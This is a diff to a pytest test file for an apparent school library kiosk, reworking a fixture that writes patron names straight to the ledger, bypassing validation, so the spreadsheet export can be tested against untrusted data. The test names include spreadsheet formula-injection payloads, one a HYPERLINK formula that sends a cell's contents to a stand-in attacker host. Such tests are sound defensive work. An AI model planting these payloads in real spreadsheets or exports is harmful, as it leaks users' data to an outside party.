@@ -12,6 +12,8 @@ from datetime import timedelta
 
 import pytest
 
+from kiosk.db import write_transaction
+from kiosk.ledger import apply_many
 from tests.conftest import patron_fact
 
 CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
@@ -21,7 +23,10 @@ NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+SUM(1,2)
 
 @pytest.fixture
 def librarian(client, school, clock):
-    school.record_facts([patron_fact(f"HSX{n}", name, class_name="9Z9") for n, name in enumerate(NAMES)])
+    # Written as an older version (or another program) could have: today a name with a tab or a
+    # line break is refused before it is stored (kiosk.ledger.check_facts), the export must not trust it.
+    with write_transaction():
+        apply_many("patron.upsert", [patron_fact(f"HSX{n}", name, class_name="9Z9")[1] for n, name in enumerate(NAMES)])
     for n in range(len(NAMES)):
         school.record_facts([("catalog.upsert", {"item": f"X-{n}", "title": f"Sách {n}", "category": "TN",
                                                  "isbn": None, "author": ""})])
